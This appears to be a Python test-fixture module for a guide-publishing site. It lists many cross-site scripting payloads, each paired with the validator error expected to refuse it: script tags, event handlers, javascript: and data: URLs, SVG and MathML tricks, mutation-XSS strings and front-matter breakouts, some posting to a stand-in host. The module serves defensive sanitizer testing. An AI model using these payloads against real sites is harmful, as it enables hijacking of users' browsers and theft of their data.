"""Script-injection payloads a guide could carry, each with what refusing it says.

Every payload, if it ever ran in a reader's browser, would leave a trace a test can see:
it sets ``window.__xss``, opens a dialog (``alert``), changes ``document.title``, or
makes the page fetch from ``xss.invalid`` (a host that is never the site). A site that
neutralizes the payload shows none of these.

Test modules import this by name (``from hostile_markup import ...``): pytest puts this
folder on ``sys.path``, and the name is unique in the test suite.
"""

from __future__ import annotations

from dataclasses import dataclass

RUN = "top.__xss=1;top.document.title='XSS';alert(1)"
"""What a payload runs: each effect is checked separately, in case one is blocked."""
OFFSITE = "https://xss.invalid"
"""A host no page of the site may ever ask anything of."""


@dataclass(frozen=True)
class Payload:
    """A piece of hostile Markdown (inserted before a guide's ``## Steps``) and the
    start of the one-line error that refuses it as a suggestion."""

    name: str
    markdown: str
    refused_with: str | None
    """None: text that only looks hostile, accepted as a suggestion (and escaped)."""

    def __str__(self) -> str:
        return self.name


PAYLOADS = [
    # -- script and event handlers ------------------------------------------------------
    Payload("script", f"<script>{RUN}</script>", "unsafe HTML element <script>"),
    Payload("script upper case", f"<SCRIPT>{RUN}</SCRIPT>", "unsafe HTML element <SCRIPT>"),
    Payload("script from offsite", f'<script src="{OFFSITE}/x.js"></script>', "unsafe HTML element <script>"),
    Payload("img onerror", f'<img src="missing.png" onerror="{RUN}">', "HTML event handler attribute onerror in <img>"),
    Payload("img onerror no quotes", "<img src=x onerror=top.__xss=1;alert(1)>", "HTML event handler attribute onerror in <img>"),
    Payload("img onerror no space", f'<img src="x"onerror="{RUN}">', "HTML event handler attribute onerror in <img>"),
    Payload("svg onload", f'<svg onload="{RUN}"></svg>', "HTML event handler attribute onload in <svg>"),
    Payload("body onload", f'<body onload="{RUN}">', "HTML event handler attribute onload in <body>"),
    Payload("details ontoggle", f'<details open ontoggle="{RUN}"><summary>More</summary>x</details>', "HTML event handler attribute ontoggle in <details>"),
    Payload("input autofocus", f'<input autofocus onfocus="{RUN}">', "HTML event handler attribute onfocus in <input>"),
    Payload("page-sized hover target", f'<a onmouseover="{RUN}" style="position:fixed;inset:0;display:block">x</a>', "HTML event handler attribute onmouseover in <a>"),
    Payload("bold onclick", f'Pay <b onclick="{RUN}">here</b>.', "HTML event handler attribute onclick in <b>"),
    # -- javascript: and data: URLs -----------------------------------------------------
    Payload("raw javascript link", f'<a href="javascript:{RUN}">Open the form</a>', "javascript: URL in <a>"),
    Payload("raw link, entity encoded", '<a href="&#x6A;avascript&#x3A;top.__xss=1;alert(1)">Open</a>', "javascript: URL in <a>"),
    Payload("raw link, leading space", '<a href=" javascript:top.__xss=1;alert(1)">Open</a>', "javascript: URL in <a>"),
    Payload("markdown javascript link", "[Open the form](javascript:top.__xss=1;alert(1))", "javascript: URL in a Markdown link or image"),
    Payload("markdown link, mixed case", "[Open](JaVaScRiPt:top.__xss=1;alert(1))", "javascript: URL in a Markdown link or image"),
    Payload("markdown link, decimal entity", "[Open](&#106;avascript:top.__xss=1;alert(1))", "link '&#106;avascript:top.__xss=1;alert(1)' points to content/identity-and-travel/&, which does not exist"),
    Payload("markdown link, tab entity", "[Open](jav&#x09;ascript:top.__xss=1;alert(1))", "link 'jav&#x09;ascript:top.__xss=1;alert(1)' points to content/identity-and-travel/jav&, which does not exist"),
    Payload("markdown link, colon entity", "[Open](javascript&colon;top.__xss=1;alert(1))", "link 'javascript&colon;top.__xss=1;alert(1)' points to content/identity-and-travel/javascript&colon;top.__xss=1;alert(1), which does not exist"),
    Payload("markdown link, angle brackets", "[Open](<javascript:top.__xss=1;alert(1)>)", "javascript: URL in a Markdown link or image"),
    Payload("reference definition", "[Open the form][form]\n\n[form]: javascript:top.__xss=1;alert(1)", "javascript: URL in a link reference definition"),
    Payload("autolink", "<javascript:top.__xss=1;alert(1)>", "javascript: URL in an autolink"),
    Payload("vbscript link", "[Open](vbscript:msgbox(1))", "vbscript: URL in a Markdown link or image"),
    Payload("data: HTML link", "[Open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "data: URL in a Markdown link or image"),
    Payload("data: SVG image", "![map](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", "data: URL in a Markdown link or image"),
    Payload("raw data: link", '<a href="DATA:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">Open</a>', "data: URL in <a>"),
    # -- elements that load, frame, submit or restyle ----------------------------------
    Payload("iframe javascript", f'<iframe src="javascript:{RUN}"></iframe>', "javascript: URL in <iframe>"),
    Payload("iframe srcdoc", '<iframe srcdoc="&lt;script&gt;top.__xss=1;alert(1)&lt;/script&gt;"></iframe>', "unsafe HTML element <iframe>"),
    Payload("iframe offsite", f'<iframe src="{OFFSITE}/frame"></iframe>', "unsafe HTML element <iframe>"),
    Payload("object", f'<object data="{OFFSITE}/x.swf" type="application/x-shockwave-flash"></object>', "unsafe HTML element <object>"),
    Payload("embed", f'<embed src="{OFFSITE}/x.swf">', "unsafe HTML element <embed>"),
    Payload("form to offsite", f'<form action="{OFFSITE}/steal"><input name="card" value="4111"><button>Pay</button></form>', "unsafe HTML element <form>"),
    Payload("button formaction", f'<form><button formaction="javascript:{RUN}">Pay</button></form>', "unsafe HTML element <form>"),
    Payload("base href", f'<base href="{OFFSITE}/">', "unsafe HTML element <base>"),
    Payload("meta refresh offsite", f'<meta http-equiv="refresh" content="0;url={OFFSITE}/phish">', "unsafe HTML element <meta>"),
    Payload("meta refresh javascript", f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">', "unsafe HTML element <meta>"),
    Payload("style element", f"<style>@import url({OFFSITE}/x.css); body {{ display: none }}</style>", "unsafe HTML element <style>"),
    Payload("style attribute", f'<div style="background:url({OFFSITE}/bg.png);position:fixed;inset:0">Fake</div>', "raw HTML <div>: guides are Markdown only"),
    Payload("stylesheet link", f'<link rel="stylesheet" href="{OFFSITE}/x.css">', "unsafe HTML element <link>"),
    Payload("offsite image", f'<img src="{OFFSITE}/pixel.gif" alt="">', "raw HTML <img>: guides are Markdown only"),
    Payload("offsite srcset", f'<img src="x.png" srcset="{OFFSITE}/pixel.gif 1x" alt="">', "raw HTML <img>: guides are Markdown only"),
    # -- SVG and MathML -----------------------------------------------------------------
    Payload("svg script", f"<svg><script>{RUN}</script></svg>", "unsafe HTML element <svg>"),
    Payload("svg xlink javascript", f'<svg><a xlink:href="javascript:{RUN}"><text x="10" y="20">Open</text></a></svg>', "unsafe HTML element <svg>"),
    Payload("svg animate onbegin", f'<svg><animate onbegin="{RUN}" attributeName="x" dur="1s"></animate></svg>', "unsafe HTML element <svg>"),
    Payload("svg set href", '<svg><a><set attributeName="href" to="javascript:top.__xss=1;alert(1)"></set><text y="20">Open</text></a></svg>', "unsafe HTML element <svg>"),
    Payload("math link", f'<math><mtext><a href="javascript:{RUN}">Open</a></mtext></math>', "unsafe HTML element <math>"),
    # -- attribute lists and markdown in HTML -------------------------------------------
    Payload("attribute list onclick", f'Open the form\n{{: onclick="{RUN}" }}', "event handler onclick in a Markdown attribute list"),
    Payload("attribute list on a heading", f'## Fees {{: onmouseover="{RUN}" style="position:fixed;inset:0" }}', "event handler onmouseover in a Markdown attribute list"),
    Payload("attribute list href", '[Open](#fees){: href="javascript:top.__xss=1;alert(1)" }', "javascript: URL in a Markdown attribute list"),
    Payload("attribute list, entity name", 'Open the form {: &#111;nclick="top.__xss=1;alert(1)" }', "event handler onclick in a Markdown attribute list"),
    Payload("md_in_html handler", f'<div markdown="1" onmouseover="{RUN}" style="position:fixed;inset:0">**Pay here**</div>', "HTML event handler attribute onmouseover in <div>"),
    # -- mutation XSS: markup that changes meaning when parsed twice --------------------
    Payload("mxss noscript title", '<noscript><p title="</noscript><img src=x onerror=top.__xss=1;alert(1)>">', "unsafe HTML element <noscript>"),
    Payload("mxss svg style", '<svg></p><style><a id="</style><img src=1 onerror=top.__xss=1;alert(1)>">', "unsafe HTML element <svg>"),
    Payload("mxss math mglyph", '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=top.__xss=1;alert(1)&gt;">', "unsafe HTML element <math>"),
    Payload("mxss nested form", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=top.__xss=1;alert(1)>", "unsafe HTML element <form>"),
    Payload("mxss template", "<template><img src=x onerror=top.__xss=1;alert(1)></template>", "unsafe HTML element <template>"),
    Payload("mxss textarea", "<textarea></textarea><img src=x onerror=top.__xss=1;alert(1)>", "unsafe HTML element <textarea>"),
    Payload("comment that ends early", "<!--><img src=x onerror=top.__xss=1;alert(1)>-->", "HTML comment that hides markup or may end early"),
    Payload("comment bang end", "<!-- a --!><img src=x onerror=top.__xss=1;alert(1)>", "HTML comment that hides markup or may end early"),
    Payload("backtick lookalike", "``a` <img src=x onerror=top.__xss=1;alert(1)>", "HTML event handler attribute onerror in <img>"),
    Payload("escaped tag", "\\<img src=x onerror=top.__xss=1;alert(1)>", "HTML event handler attribute onerror in <img>"),
]

FRONT_MATTER_PAYLOADS = [
    # A front matter line replacing the guide's own: values reach the page's <title>, its
    # heading, meta description, the panel, the search index and the JSON-LD. The schema
    # refuses "<" and ">" in them (also when written as YAML escapes); quotes are text
    # ("the "Fast Track" service"), so a breakout of a quoted attribute is accepted as a
    # suggestion and must be escaped wherever it is rendered.
    Payload("title script", "title: '</title><script>top.__xss=1;alert(1)</script>'", "3: title: must be plain text without HTML"),
    Payload("title breakout", "title: 'Renew \" onmouseover=\"top.__xss=1;alert(1)\" autofocus onfocus=\"top.__xss=1\" x=\"'", None),
    Payload("summary img", "summary: '\"><img src=x onerror=top.__xss=1;alert(1)> A hostile guide summary'", "4: summary: must be plain text without HTML"),
    Payload("summary YAML escapes", 'summary: "\\x3cscript\\x3etop.__xss=1;alert(1)\\x3c/script\\x3e in a hostile guide"', "4: summary: must be plain text without HTML"),
    Payload("agency breakout", "agency: '</script><script>top.__xss=1;alert(1)</script>'", "6: agency: must be plain text without HTML"),
]


def with_body_payload(guide: str, payload: Payload) -> str:
    """``guide`` with ``payload`` as a paragraph of its own just before ``## Steps``."""
    changed = guide.replace("\n## Steps", f"\n{payload.markdown}\n\n## Steps", 1)
    assert changed != guide, "the guide has no Steps section"
    return changed


def with_front_matter_payload(guide: str, payload: Payload) -> str:
    """``guide`` with the front matter line of ``payload``'s field replaced by it."""
    field = payload.markdown.split(":", 1)[0]
    lines = guide.split("\n")
    at = next(i for i, line in enumerate(lines) if line.startswith(f"{field}: "))
    lines[at] = payload.markdown
    return "\n".join(lines)
